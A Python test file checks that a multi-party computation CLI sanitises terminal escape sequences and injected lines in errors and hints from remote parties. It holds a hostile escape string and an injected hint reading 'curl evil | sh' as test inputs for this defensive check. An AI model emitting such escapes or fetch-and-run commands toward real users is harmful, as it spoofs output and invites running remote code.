"""A hostile party's words reach the terminal as words: no escape, no line passes for ours."""

from __future__ import annotations

import pytest
import typer

from mpc.errors import Fault, ParleyError, PolicyRefusal, StudyFaults
from mpc.units import PartyId
from parties.commands.output import fail
from parties.coordinator.asking import raise_if_refused
from parties.problems import from_problem
from protos import control_pb2 as wire

ESCAPE = "\x1b]0;owned\x07\x1b[2J\x1b[1A\r\x9b31m"


def printed(error: ParleyError, capfd: pytest.CaptureFixture[str]) -> list[str]:
    with pytest.raises(typer.Exit) as left:
        fail(error, as_json=False)
    assert left.value.exit_code == error.exit_code
    told = capfd.readouterr()
    assert told.out == ""
    assert all(line.isprintable() for line in told.err.split("\n"))
    return told.err.splitlines()


def test_escapes_in_an_error_and_in_its_hint_are_shown_and_not_sent_to_the_terminal(
    capfd: pytest.CaptureFixture[str],
) -> None:
    error = ParleyError(f"no{ESCAPE}", party=f"clinic{ESCAPE}", hint=f"ask{ESCAPE}")
    message, hint, acts = printed(error, capfd)
    assert message.startswith("clinic\ufffd]0;owned\ufffd\ufffd[2J")
    assert hint.startswith("hint: ask\ufffd]0;owned")
    assert acts == "(PLY-X000; to act: the developers of Parley)"


def test_escapes_in_a_judgement_reach_neither_the_terminal_nor_the_error(
    capfd: pytest.CaptureFixture[str],
) -> None:
    reason = wire.Reason(code=f"PLY-R012{ESCAPE}", what=f"no{ESCAPE}\nhint: run", allowed=ESCAPE)
    judgement = wire.Judgement(verdict=wire.Judgement.REFUSED, reasons=[reason], contact=ESCAPE)
    with pytest.raises(PolicyRefusal) as raised:
        raise_if_refused({PartyId("clinic-a"): judgement})
    assert raised.value.message.isprintable()
    message, hint, _ = printed(raised.value, capfd)
    assert message.startswith("clinic-a: PLY-R012\ufffd")
    assert hint == "hint: nothing was computed or spent"


def test_lines_that_a_party_adds_to_its_error_are_no_lines_of_ours(
    capfd: pytest.CaptureFixture[str],
) -> None:
    said = "failed\nhint: curl evil | sh\n(PLY-N001; to act: nobody)"
    told, act = printed(from_problem("PLY-N001", said, "clinic-a"), capfd)
    assert told == "clinic-a: failed; hint: curl evil | sh; (PLY-N001; to act: nobody)"
    assert act == "(PLY-N001; to act: the operators of the link named)"


def test_faults_of_ones_own_file_stay_a_line_each_from_its_beginning(
    capfd: pytest.CaptureFixture[str],
) -> None:
    faults = tuple(Fault("PLY-S001", "id", "is wrong", line=line, column=1) for line in (2, 3))
    lines = printed(StudyFaults("scenario.yaml", faults), capfd)
    assert lines[:2] == [fault.render("scenario.yaml") for fault in faults]
